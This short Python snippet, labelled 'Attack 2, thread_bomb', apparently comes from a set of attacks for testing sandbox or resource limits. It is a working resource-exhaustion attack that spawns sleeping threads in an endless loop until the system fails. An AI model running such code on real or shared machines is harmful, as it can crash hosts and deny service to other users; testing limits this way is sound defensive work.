# Attack 2, thread_bomb: spawn threads until failure.
import threading, time
ts = []
while True:
    t = threading.Thread(target=time.sleep, args=(100,), daemon=True)
    t.start()
    ts.append(t)
